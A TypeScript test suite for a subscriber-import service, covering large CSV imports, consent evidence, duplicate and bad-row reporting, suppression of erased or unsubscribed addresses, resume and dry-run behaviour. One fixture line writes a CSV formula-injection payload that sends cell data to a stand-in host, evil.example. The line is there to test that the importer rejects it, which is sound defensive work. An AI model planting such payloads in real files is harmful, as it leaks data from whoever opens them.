import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eraseSubject } from '../../src/erasure/erase.js';
import { type ImportDeps, runImport } from '../../src/imports/actions.js';
import { reportPages } from '../../src/imports/queries.js';
import { nodeEmailHasher } from '../../src/node/import-file.js';
import { unsubscribe } from '../../src/unsubscribe/actions.js';
import { createHarness, type Harness, jsonRequest, onPostgres, registerLead, TEST_HASH_KEY } from '../helpers/harness.js';
import { importer, suppressionState, tableCounts, textChunks } from './helpers.js';

let h: Harness;
let deps: ImportDeps;
let run: ReturnType<typeof importer>;

beforeAll(async () => {
  h = await createHarness();
  deps = { hasher: h.deps.hasher, newId: () => crypto.randomUUID(), now: () => h.clock.now(), defaultLocale: 'ru' };
  run = importer(h.db, deps);
});
afterAll(() => h.close());

async function report(id: string): Promise<string[][]> {
  let text = '';
  for await (const p of reportPages(h.db, id)) text += p;
  return text
    .trim()
    .split('\n')
    .slice(1)
    .map((l) => {
      const [line, reason] = l.split(',');
      return [line!, reason!];
    });
}

/** The tables an import may write, beside the import's own. */
const WRITTEN = ['subjects', 'consents', 'consent_events', 'preferences', 'subject_addresses', 'suppressions', 'audit_log', 'outbox'];

describe('a 100,000-row subjects file', { timeout: 600_000 }, () => {
  const N = 100_000;
  let text = '';
  const bad = new Set<number>();
  const dup = new Set<number>();
  const badTime = new Set<number>();

  beforeAll(() => {
    const rows = ['email;first_name;last_name;optin_time;optin_ip'];
    for (let i = 0; i < N; i++) {
      let email = `person${i}@example.ru`;
      if (i % 1000 === 7) {
        email = `not an address ${i}`;
        bad.add(i);
      } else if (i % 1000 === 13) {
        email = `PERSON${i - 5}@Example.RU`;
        dup.add(i);
      }
      let time = i % 2 === 0 ? '2024-05-01T10:00:00Z' : '';
      if (i % 5000 === 100) {
        time = '=HYPERLINK("http://evil.example/?x="&A1)';
        badTime.add(i);
      }
      rows.push(`${email};Имя${i};"Фамилия; ${i}";${time};192.0.2.${i % 250}`);
    }
    text = `${rows.join('\r\n')}\r\n`;
  });

  let firstId: string;
  let after1: Record<string, number>;
  let supp1: unknown[];

  it('imports in batches: people created, consent granted only with a time, broken rows reported with their line', async () => {
    const before = await tableCounts(h.db);
    const started = performance.now();
    const r = await run(text, { kind: 'subjects', source: 'crm', fileName: 'base.csv', policyVersion: '2025-06-01' });
    const seconds = (performance.now() - started) / 1000;
    console.log(`100,000 rows imported in ${seconds.toFixed(1)} s (${onPostgres ? 'PostgreSQL' : 'PGlite'}): ${Math.round(N / seconds)} rows/s`);
    if (r.kind !== 'done') throw new Error(JSON.stringify(r));
    firstId = r.id!;
    const rejected = bad.size + dup.size;
    const created = N - rejected;
    // Even i have a time (but the bad times), odd ones none; the rejected rows are neither.
    const withTime = [...Array(N).keys()].filter((i) => i % 2 === 0 && !bad.has(i) && !dup.has(i) && !badTime.has(i)).length;
    expect(r.counts).toMatchObject({ rows: N, created, granted: withTime, consentNone: created - withTime, rejected, leftAsIs: 0 });
    expect(r.counts.reported).toEqual({ bad_address: bad.size, duplicate: dup.size, no_consent_evidence: created - withTime });

    after1 = await tableCounts(h.db);
    expect(after1.subjects! - before.subjects!).toBe(created);
    expect(after1.consents! - before.consents!).toBe(2 * created);
    expect(after1.consent_events! - before.consent_events!).toBe(created + withTime);
    expect(after1.outbox).toBe(before.outbox); // no confirmation mail for imported people
    supp1 = await suppressionState(h.db);

    const rows = await report(firstId);
    const byLine = new Map(rows.map(([l, reason]) => [`${l}:${reason}`, true]));
    for (const i of bad) expect(byLine.has(`${i + 2}:bad_address`)).toBe(true);
    for (const i of dup) expect(byLine.has(`${i + 2}:duplicate`)).toBe(true);
    for (const i of badTime) expect(byLine.has(`${i + 2}:no_consent_evidence`)).toBe(true);

    // The evidence as the file gave it: the person's act at that time from that IP, the import as the source.
    const ev = await sql<{ actor_type: string; occurred_at: Date; ip: string; source: string; policy_version: string }>`
      select e.actor_type, e.occurred_at, e.ip, e.source, e.policy_version from consent_events e join subjects s on s.id = e.subject_id
      where s.email = 'person2@example.ru' and e.purpose = 'marketing' and e.action = 'granted'`.execute(h.db);
    expect(ev.rows).toHaveLength(1);
    expect(ev.rows[0]).toMatchObject({ actor_type: 'subject', ip: '192.0.2.2', source: 'import:crm:base.csv', policy_version: '2025-06-01' });
    expect(new Date(ev.rows[0]!.occurred_at).toISOString()).toBe('2024-05-01T10:00:00.000Z');
    const none = await sql<{ state: string }>`
      select c.state from consents c join subjects s on s.id = c.subject_id where s.email = 'person1@example.ru' and c.purpose = 'marketing'`.execute(h.db);
    expect(none.rows[0]!.state).toBe('none');
    const profile = await h.db.selectFrom('subjects').select(['first_name', 'last_name']).where('email', '=', 'person3@example.ru').executeTakeFirstOrThrow();
    expect(profile).toEqual({ first_name: 'Имя3', last_name: 'Фамилия; 3' });
  });

  it('imported again, changes nothing: the same people, consents, ledger, suppressions, audit and outbox', async () => {
    const started = performance.now();
    const r = await run(text, { kind: 'subjects', source: 'crm', fileName: 'base.csv', policyVersion: '2025-06-01' });
    console.log(`the same 100,000 rows again in ${((performance.now() - started) / 1000).toFixed(1)} s`);
    if (r.kind !== 'done') throw new Error(JSON.stringify(r));
    expect(r.counts).toMatchObject({ rows: N, created: 0, granted: 0, leftAsIs: N - bad.size - dup.size, rejected: bad.size + dup.size });
    const after2 = await tableCounts(h.db);
    for (const t of WRITTEN) expect([t, after2[t]]).toEqual([t, after1[t]]);
    expect(await suppressionState(h.db)).toEqual(supp1);
  });
});

describe('never resurrects', () => {
  it('leaves an unsubscribed, a bounced, an erased and a withdrawn address exactly as they are, and reports each', async () => {
    const unsub = await registerLead(h, 'unsub@example.ru');
    await unsubscribe(h.db, unsub.id, { actorType: 'subject', at: h.clock.now() });
    const staff = await h.bearer('suppressions:write');
    expect((await h.app.request('/v1/suppressions', jsonRequest('POST', { entries: [{ email: 'bounced@example.ru' }] }, staff))).status).toBe(200);
    const erased = await registerLead(h, 'erased@example.ru');
    await eraseSubject(h.db, erased.id, h.clock.now(), null);
    const withdrawn = await registerLead(h, 'withdrawn@example.ru');
    await h.db.updateTable('consents').set({ state: 'withdrawn' }).where('subject_id', '=', withdrawn.id).where('purpose', '=', 'marketing').execute();

    const before = await tableCounts(h.db);
    const supp = await suppressionState(h.db);
    const file = [
      'email,consent,consent_at',
      'unsub@example.ru,yes,2024-01-01T00:00:00Z',
      'bounced@example.ru,yes,2024-01-01T00:00:00Z',
      'erased@example.ru,yes,2024-01-01T00:00:00Z',
      'withdrawn@example.ru,yes,2024-01-01T00:00:00Z',
    ].join('\n');
    const r = await run(file, { kind: 'subjects' });
    if (r.kind !== 'done') throw new Error(JSON.stringify(r));
    expect(r.counts).toMatchObject({ created: 0, leftAsIs: 4 });
    expect(await report(r.id!)).toEqual([
      ['2', 'unsubscribed'],
      ['3', 'suppressed'],
      ['4', 'erased'],
      ['5', 'withdrawn'],
    ]);
    const after = await tableCounts(h.db);
    for (const t of WRITTEN) expect([t, after[t]]).toEqual([t, before[t]]);
    expect(await suppressionState(h.db)).toEqual(supp);
    // Nothing of the erased address came back, the address least of all.
    const back = await h.db.selectFrom('subjects').select('id').where('email', '=', 'erased@example.ru').execute();
    expect(back).toEqual([]);
  });

  it('a suppressions file never stores an erased address again (its hash only) and adds no ledger row for it', async () => {
    const gone = await registerLead(h, 'gone@example.ru');
    await eraseSubject(h.db, gone.id, h.clock.now(), null);
    await sql`update suppressions set active = false where subject_id = ${gone.id}`.execute(h.db);
    const r = await run('email,type\ngone@example.ru,bounce\n', { kind: 'suppressions' });
    if (r.kind !== 'done') throw new Error(JSON.stringify(r));
    const row = await h.db.selectFrom('suppressions').select(['email', 'reason', 'active']).where('subject_id', '=', gone.id).executeTakeFirstOrThrow();
    expect(row).toEqual({ email: null, reason: 'bounced', active: true });
  });
});

describe('resume', { timeout: 300_000 }, () => {
  function file(n: number): string {
    const rows = ['email,name,consent_at,status'];
    for (let i = 0; i < n; i++) {
      const status = i % 97 === 0 ? 'unsubscribed' : 'enabled';
      rows.push(`resume${i}@example.org,"Name ${i}",${i % 3 ? '2023-02-03 04:05:06' : ''},${status}`);
      if (i % 500 === 3) rows.push(`RESUME${i}@example.org,dup,,enabled`);
    }
    return `${rows.join('\n')}\n`;
  }

  /** The state an import leaves, keyed by address: what a one-shot import and a resumed one must agree on. */
  async function state(prefix: string) {
    const people = await sql`
      select s.email, s.first_name, s.last_name, s.locale,
        (select string_agg(c.purpose || '=' || c.state, ',' order by c.purpose) from consents c where c.subject_id = s.id) as consents,
        (select string_agg(e.action || '/' || coalesce(e.purpose, '') || '/' || e.occurred_at::text || '/' || coalesce(e.source, ''), ',' order by e.id) from consent_events e where e.subject_id = s.id) as ledger
      from subjects s where s.email like ${`${prefix}%`} order by s.email`.execute(h.db);
    const supp = await sql`select email, reason, active from suppressions where email like ${`${prefix}%`} order by email`.execute(h.db);
    return { people: people.rows, supp: supp.rows };
  }

  it('an import stopped after two batches goes on where it stopped; the end state equals a one-shot import', async () => {
    const text = file(2600);
    // One-shot, under another prefix, in a fresh transaction-free run.
    const oneShot = await run(text.replaceAll('resume', 'oneshot').replaceAll('RESUME', 'ONESHOT'), {
      kind: 'subjects',
      batchSize: 500,
      source: 's',
      fileName: 'f.csv',
    });
    if (oneShot.kind !== 'done') throw new Error(JSON.stringify(oneShot));

    const ac = new AbortController();
    let batches = 0;
    const first = runImport(h.db, deps, {
      kind: 'subjects',
      text: textChunks(text, 1000),
      batchSize: 500,
      source: 's',
      fileName: 'f.csv',
      signal: ac.signal,
      onProgress: (p) => {
        if (p.line > 0 && ++batches === 2) ac.abort(new Error('interrupted'));
      },
    });
    await expect(first).rejects.toThrow('interrupted');
    const stopped = await h.db.selectFrom('imports').select(['id', 'committed_line', 'status']).orderBy('started_at', 'desc').orderBy('id').execute();
    const imp = stopped.find((s) => s.status === 'running')!;
    expect(imp.committed_line).toBeGreaterThan(0);

    // A different file is refused, nothing written.
    const before = await tableCounts(h.db);
    const other = await runImport(h.db, deps, { kind: 'subjects', text: textChunks(text.replace('Name 5', 'Name 6')), source: 's', resume: imp.id });
    expect(other.kind).toBe('not_resumable');
    expect(await tableCounts(h.db)).toEqual(before);

    const resumed = await runImport(h.db, deps, { kind: 'subjects', text: textChunks(text, 777), source: 'ignored', resume: imp.id });
    if (resumed.kind !== 'done') throw new Error(JSON.stringify(resumed));
    expect(resumed.resumedFrom).toBeGreaterThan(0);
    expect(resumed.counts).toEqual(oneShot.counts);

    const a = await state('resume');
    const b = await state('oneshot');
    const rename = (v: unknown) => JSON.parse(JSON.stringify(v).replaceAll('oneshot', 'resume'));
    expect(a).toEqual(rename(b));
    expect(await report(resumed.id!)).toEqual(await report(oneShot.id!));

    // Finished: resuming again is refused.
    const again = await runImport(h.db, deps, { kind: 'subjects', text: textChunks(text), source: 's', resume: imp.id });
    expect(again.kind).toBe('not_resumable');
  });
});

describe('dry run', () => {
  it('reads, decides and counts, and writes nothing: every table keeps its row count', async () => {
    await registerLead(h, 'known-dry@example.ru');
    const before = await tableCounts(h.db);
    const supp = await suppressionState(h.db);
    const reports: unknown[] = [];
    const r = await runImport(h.db, deps, {
      kind: 'subjects',
      text: textChunks('email,consent_at,status\nnew-dry@example.ru,2024-01-01,\nknown-dry@example.ru,,\nleft-dry@example.ru,,unsubscribed\nbroken,,\n'),
      source: 'dry',
      dryRun: true,
      onReport: (rows) => reports.push(...rows),
    });
    if (r.kind !== 'done') throw new Error(JSON.stringify(r));
    expect(r.id).toBeNull();
    expect(r.counts).toMatchObject({ rows: 4, created: 1, granted: 1, suppressed: 1, leftAsIs: 1, rejected: 1 });
    expect(reports).toHaveLength(2);
    expect(await tableCounts(h.db)).toEqual(before);
    expect(await suppressionState(h.db)).toEqual(supp);
  });
});

describe('the Node hasher', () => {
  it('computes the same keyed hash as the one the app uses', async () => {
    const fast = nodeEmailHasher(TEST_HASH_KEY);
    for (const e of ['a@b.ru', 'иван@xn--80a1acny.xn--p1ai']) expect(await fast.hash(e)).toBe(await h.deps.hasher.hash(e));
  });
});
